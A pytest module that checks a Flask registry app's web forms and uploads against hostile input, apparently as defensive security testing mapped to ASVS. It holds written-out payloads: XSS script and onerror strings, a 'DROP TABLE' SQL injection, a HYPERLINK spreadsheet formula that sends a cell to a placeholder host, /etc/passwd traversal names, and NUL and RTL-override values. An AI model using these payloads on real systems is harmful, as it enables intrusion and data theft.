"""Hostile input on every page form (issue 9 item 4; ASVS V5.1, V5.2, V5.3): table-driven.

For every POST page route of the authorization matrix (tests/authz/*.py) the actor the matrix
lets through signs in (tests/api/world.py: a session and its CSRF token) and posts the form once
with the form's own values (read from its GET page) plus the matrix's valid data, and
- each field alone replaced by markup (a script tag, an attribute break), a NUL byte, a
  spreadsheet formula or an overflowing number (`PER_FIELD`: the other fields stay valid, so the
  value reaches the operation and the database);
- every field at once replaced by each of `PAYLOADS`: those, SQL, a path, RTL-override
  characters, 10× a length limit, 1 MB, letters in a number, an impossible date, a bad
  统一社会信用代码.
Every answer must be

- a page, never a server error: 200 / 400 / 404 / 409 / 413 / 422 after redirects (423 for the
  login lockout, 429 for a rate limit);
- on 400/422/423/429: a message in Chinese (the default language) beside the field or in the error list;
- escaped: the raw tag of a markup payload never appears in the HTML.

After each route, every page the actor may read in that world (the matrix's GET page routes) is
opened and must not contain a raw tag either: whatever was stored is shown escaped.
Uploads with traversal names are stored under a safe name (test_upload_names_*).
"""
from __future__ import annotations

import html
import io
import re
from collections import Counter
from html.parser import HTMLParser
from string import Formatter

import pytest

from tests.api.test_authorization_matrix import ALL_ROUTES
from tests.authz.spec import Route

SCRIPT = "<script>alert(1)</script>"
IMG = "'\"><img src=x onerror=alert(1)>"
PAYLOADS: dict[str, str] = {
    "script_tag": SCRIPT,
    "attribute_break": IMG,
    "sql": "'; DROP TABLE enterprise;--",
    "formula": '=HYPERLINK("http://example.invalid/?"&A1,"点击")',
    "traversal": "../../etc/passwd",
    "nul": "abc\x00def",
    "rtl_override": "\u202eexe.fdp\u202c",
    "ten_times_limit": "长" * 2560,
    "one_megabyte": "A" * (1024 * 1024),
    "letters_in_number": "12abc",
    "bad_date": "2017-02-30",
    "bad_uscc": "91131002MA0000000X",
    "huge_number": "1" + "0" * 400,
}
# Tried in each field alone, the form's other fields valid (so the value reaches the operation and
# the database); every payload is also tried in all fields at once.
PER_FIELD = ("script_tag", "attribute_break", "nul", "formula", "huge_number")
RAW_MARKUP = ("<script>alert(1)", "<img src=x onerror")
OK_STATUSES = {200, 400, 404, 409, 413, 422, 423, 429}  # 423: the login lockout; 429: a rate limit
MESSAGE_STATUSES = (400, 422, 423, 429)
SUCCESS = (200, 302, 303)
ACTOR_PREFERENCE = ("owner", "county_in", "city_in", "province_in", "admin", "other_enterprise", "anonymous")
# nothing to type into: signing out; confirming an upload already checked (its file: test_import_upload_names_*)
NO_INPUT = {"/logout", "/exchange/import/{token}"}
FIGURES: Counter = Counter()  # read by the report printed at the end of the module


def _placeholders(text: str) -> set[str]:
    return {name for _lit, name, _spec, _conv in Formatter().parse(text) if name}


PUBLIC_FORMS = {"/login", "/signup", "/public/grades/{application_id}/objection"}  # typed in by visitors
SIGNED_IN = tuple(a for a in ACTOR_PREFERENCE if a != "anonymous")


def _actor_for(route: Route) -> str | None:
    """Who types into this form: a visitor for the public forms, else the first signed-in actor the
    matrix lets through (success), or lets reach validation (422) or the state check (409)."""
    if route.path in PUBLIC_FORMS:
        return "anonymous"
    if route.path == "/enterprises/new":
        return "owner"  # replaced by a fresh enterprise account in the test (the owner already registered)
    for statuses in (SUCCESS, (422,), (409,)):
        actor = next((a for a in SIGNED_IN if route.expect.get(a) in statuses), None)
        if actor:
            return actor
    return None


def _pick_routes() -> list[tuple[Route, str]]:
    """One (route, actor) per POST page path: the entry whose actor gets furthest, with the most data."""
    chosen: dict[str, tuple[Route, str]] = {}

    def score(route: Route, actor: str):
        return (route.expect[actor] in SUCCESS, route.expect[actor] == 422, len(route.data))

    for route in ALL_ROUTES:
        if route.method != "POST" or route.path.startswith("/api/") or route.path in NO_INPUT:
            continue
        actor = _actor_for(route)
        if actor is None:
            continue
        best = chosen.get(route.path)
        if best is None or score(route, actor) > score(*best):
            chosen[route.path] = (route, actor)
    return [chosen[p] for p in sorted(chosen)]


ROUTES = _pick_routes()


class _Forms(HTMLParser):
    """The POST forms of a page: action → {field name: default value} and the names of file fields."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.forms: list[dict] = []
        self._form: dict | None = None
        self._select: str | None = None
        self._textarea: str | None = None

    def handle_starttag(self, tag, attrs):
        a = dict(attrs)
        if tag == "form" and (a.get("method") or "get").lower() == "post":
            self._form = {"action": a.get("action") or "", "fields": {}, "files": set()}
            self.forms.append(self._form)
        if self._form is None or not a.get("name"):
            if tag == "option" and self._form is not None and self._select and ("selected" in a):
                self._form["fields"][self._select] = a.get("value", "")
            return
        name, kind = a["name"], (a.get("type") or "text").lower()
        fields = self._form["fields"]
        if tag == "input":
            if kind == "file":
                self._form["files"].add(name)
            elif kind in ("checkbox", "radio"):
                if "checked" in a:
                    fields[name] = a.get("value", "y")
                else:
                    fields.setdefault(name, None)  # a field to try, with no default
            elif kind not in ("submit", "button", "image", "reset"):
                fields[name] = a.get("value", "")
        elif tag == "textarea":
            self._textarea = name
            fields[name] = ""
        elif tag == "select":
            self._select = name
            fields.setdefault(name, "")

    def handle_data(self, data):
        if self._form is not None and self._textarea:
            self._form["fields"][self._textarea] += data

    def handle_endtag(self, tag):
        if tag == "form":
            self._form = None
        elif tag == "select":
            self._select = None
        elif tag == "textarea":
            self._textarea = None


def _form_of(client, path: str) -> tuple[dict, set]:
    """The defaults and file fields of the form posting to `path`, from the page at `path` (when it has one)."""
    page = client.get(path)
    if page.status_code != 200:
        return {}, set()
    parser = _Forms()
    parser.feed(page.get_data(as_text=True))
    for form in parser.forms:
        if form["action"] in ("", path) or form["action"].split("?")[0] == path:
            return {k: v for k, v in form["fields"].items() if v is not None} | {
                k: "" for k, v in form["fields"].items() if v is None}, form["files"]
    return {}, set()


_ERROR_BLOCKS = re.compile(
    r'<ul class="field-errors"[^>]*>(.*?)</ul>|<ul class="errors">(.*?)</ul>|class="alert[^"]*alert-error[^"]*"[^>]*>(.*?)</div>'
    r'|<p class="error-message">(.*?)</p>|class="flash flash-error"[^>]*>(.*?)</div>|<p class="error">(.*?)</p>', re.S)
_CJK = re.compile(r"[\u4e00-\u9fff]")


def _error_text(page: str) -> str:
    return " ".join(html.unescape(re.sub(r"<[^>]+>", " ", "".join(m))) for m in _ERROR_BLOCKS.findall(page))


def _readable_pages(world, actor: str) -> list[str]:
    """The matrix's GET page routes this actor opens with 200 in this world (placeholders already built)."""
    out = []
    for route in ALL_ROUTES:
        if route.method != "GET" or route.path.startswith("/api/") or route.expect.get(actor) != 200:
            continue
        if not _placeholders(route.path) <= set(world.values) or "xlsx" in route.path or "csv" in route.path:
            continue
        out.append(world.fill(route.path))
    return sorted(set(out))


@pytest.mark.parametrize(("route", "actor"), ROUTES, ids=[f"{r.path} [{a}]" for r, a in ROUTES])
def test_hostile_values_in_every_field_are_refused_or_stored_escaped(route, actor, client):
    from tests.api.world import build_world, session_login

    world = build_world(route.state, actor)
    user = world.actor
    if route.path == "/enterprises/new":  # the registration form is for an account without an enterprise yet
        from registry.extensions import db
        from tests.api.world import _account

        user = _account("fresh.enterprise", "enterprise", None)
        db.session.commit()
    csrf = session_login(client, user)
    path = world.fill(route.path)
    defaults, _files = _form_of(client, path)
    base = {**defaults, **world.fill_data(route.data)}
    fields = sorted((set(base) | set(defaults)) - {"csrf_token"}) or ["_probe"]
    problems: list[str] = []
    attempts = [(field, label) for field in fields for label in PER_FIELD] + [(None, label) for label in PAYLOADS]
    for field, label in attempts:
        payload = PAYLOADS[label]
        hostile = {field: payload} if field else {name: payload for name in fields}
        response = client.post(path, data={**base, **hostile, "csrf_token": csrf}, follow_redirects=True)
        FIGURES["requests"] += 1
        page = response.get_data(as_text=True)
        where = f"{route.path} field {field or 'ALL'!r} ← {label}: {response.status_code}"
        if response.status_code not in OK_STATUSES:
            problems.append(f"{where} {_error_text(page)[:200]}")
            continue
        if any(raw in page for raw in RAW_MARKUP):
            problems.append(f"{where}: raw markup in the page")
        if response.status_code in MESSAGE_STATUSES and not _CJK.search(_error_text(page)):
            problems.append(f"{where}: no message in Chinese ({_error_text(page)[:120]!r})")
        if response.history and response.status_code == 200:
            FIGURES["accepted"] += 1
            if "version" in base:  # a saved edit bumps the version the next post must carry
                fresh, _ = _form_of(client, path)
                base["version"] = fresh.get("version", base["version"])
        else:
            FIGURES["refused"] += 1
    for page_path in _readable_pages(world, actor):
        response = client.get(page_path)
        if not response.content_type.startswith("text/html"):
            continue
        page = response.get_data(as_text=True)
        FIGURES["pages_checked"] += 1
        if any(raw in page for raw in RAW_MARKUP):
            problems.append(f"{page_path}: raw markup after {route.path}")
        if html.escape(SCRIPT, quote=False) in page or html.escape(SCRIPT) in page:
            FIGURES["stored_and_escaped"] += 1
    FIGURES["forms"] += 1
    FIGURES["fields"] += len(fields)
    assert not problems, "\n".join(problems[:40])


def test_every_post_page_route_is_tried():
    """The table covers every POST page path of the matrix that takes input."""
    paths = {r.path for r in ALL_ROUTES if r.method == "POST" and not r.path.startswith("/api/")} - NO_INPUT
    untried = sorted(paths - {r.path for r, _a in ROUTES})
    # a route is left out only when the matrix names no actor (of tests/authz/spec.py) that may post it
    assert all(_actor_for(r) is None for r in ALL_ROUTES if r.path in untried and r.method == "POST"), untried
    FIGURES["untried"] = len(untried)
    assert len(ROUTES) >= 45, len(ROUTES)


# ---- uploads: the client's file name never becomes a path ----

PDF = b"%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n"
TRAVERSAL_NAMES = ["../../etc/passwd.pdf", "..\\..\\windows\\system32\\evil.pdf", "/etc/cron.d/x.pdf",
                   "证明\u202efdp.exe.pdf", "a\x00b.pdf", "<script>alert(1)</script>.pdf"]


@pytest.mark.parametrize("name", TRAVERSAL_NAMES)
def test_upload_names_with_traversal_are_stored_under_a_safe_name(name, client, tmp_path):
    from flask import current_app

    from registry.extensions import db
    from registry.grades.models import Evidence
    from tests.api.world import build_world, session_login

    current_app.config["GRADE_EVIDENCE_DIR"] = str(tmp_path / "evidence")
    world = build_world("grade_draft", "owner")
    csrf = session_login(client, world.actor)
    application_id = world.values["application_id"]
    page = client.get(f"/grades/{application_id}").get_data(as_text=True)
    indicator = next(iter(re.findall(r'name="indicator"[^>]*>\s*<option value="([^"]+)"', page)), "")
    before = set(db.session.scalars(db.select(Evidence.id)))
    response = client.post(f"/grades/{application_id}/evidence", follow_redirects=True, content_type="multipart/form-data",
                           data={"csrf_token": csrf, "indicator": indicator, "file": (io.BytesIO(PDF), name)})
    assert response.status_code in (200, 422), response.status_code
    text = response.get_data(as_text=True)
    assert not any(raw in text for raw in RAW_MARKUP)
    db.session.expire_all()
    new = db.session.scalars(db.select(Evidence).where(Evidence.id.not_in(before))).all()
    for row in new:
        assert "/" not in row.filename and "\\" not in row.filename and "\x00" not in row.filename, row.filename
        assert row.filename not in ("", ".", ".."), row.filename
    stored = [p for p in (tmp_path / "evidence").rglob("*") if p.is_file()]
    for p in stored:
        assert p.resolve().is_relative_to((tmp_path / "evidence").resolve())
        assert re.fullmatch(r"[0-9a-f]{64}", p.name), p.name  # content-addressed, the client's name plays no part
    assert not (tmp_path / "etc").exists()


@pytest.mark.parametrize("name", TRAVERSAL_NAMES)
def test_import_upload_names_with_traversal_are_stored_under_a_safe_name(name, client, db_app):
    import os

    from tests.api.world import build_world, session_login

    world = build_world("approved", "owner")
    csrf = session_login(client, world.actor)
    folder = os.path.join(db_app.instance_path, "exchange-uploads")
    before = set(os.listdir(folder)) if os.path.isdir(folder) else set()
    csv = "统一社会信用代码,企业名称\n".encode()
    response = client.post("/exchange/import", content_type="multipart/form-data", follow_redirects=True,
                           data={"csrf_token": csrf, "dry_run": "y", "file": (io.BytesIO(csv), name.replace(".pdf", ".csv"))})
    assert response.status_code in (200, 422), response.status_code
    assert not any(raw in response.get_data(as_text=True) for raw in RAW_MARKUP)
    after = set(os.listdir(folder)) if os.path.isdir(folder) else set()
    for new in after - before:
        assert re.fullmatch(rf"{world.actor.id}-[0-9a-f]{{32}}", new), new
        with open(os.path.join(folder, new), "rb") as f:
            head = f.readline()
        assert b"/" not in head and b"\\" not in head and b"\x00" not in head, head
        os.remove(os.path.join(folder, new))


def test_zz_report_figures():
    """Prints the figures of this module's run (docs/security.md, "Bad input")."""
    print(f"\nhostile form input: {FIGURES['forms']} forms, {FIGURES['fields']} fields, {len(PAYLOADS)} payloads, "
          f"{FIGURES['requests']} posts ({FIGURES['accepted']} accepted, {FIGURES['refused']} refused), "
          f"{FIGURES['pages_checked']} pages re-read, {FIGURES['stored_and_escaped']} showed a stored <script> escaped")


@pytest.mark.parametrize(("kind", "field", "value"), [
    ("line", "stack_height_m", 123456789),          # Numeric(6, 2) holds < 10,000
    ("enterprise", "bulk_freight_mt", 99999999.5),  # Numeric(10, 3) holds < 10,000,000
    ("enterprise", "heavy_diesel_vehicles", 10**12),  # integer
])
def test_numbers_beyond_their_column_are_refused_naming_the_field(kind, field, value, client):
    """PostgreSQL refused these at the UPDATE (numeric field overflow: a 500); now 422 on both databases."""
    from tests.api.world import build_world
    from tests.builders import enterprise_payload, line_payload

    world = build_world("draft", "owner")
    if kind == "line":
        path, body = f"/api/v1/lines/{world.line.id}", {**line_payload("L1", **{field: value}), "version": world.line.version}
    else:
        path, body = f"/api/v1/enterprises/{world.enterprise.id}", {**enterprise_payload(1, **{field: value}),
                                                                    "version": world.enterprise.version}
    response = client.put(path, json=body, headers=world.headers)
    assert response.status_code == 422, response.get_data(as_text=True)[:300]
    assert field in response.get_json()["errors"], response.get_json()
    assert _CJK.search(" ".join(response.get_json()["errors"][field]))
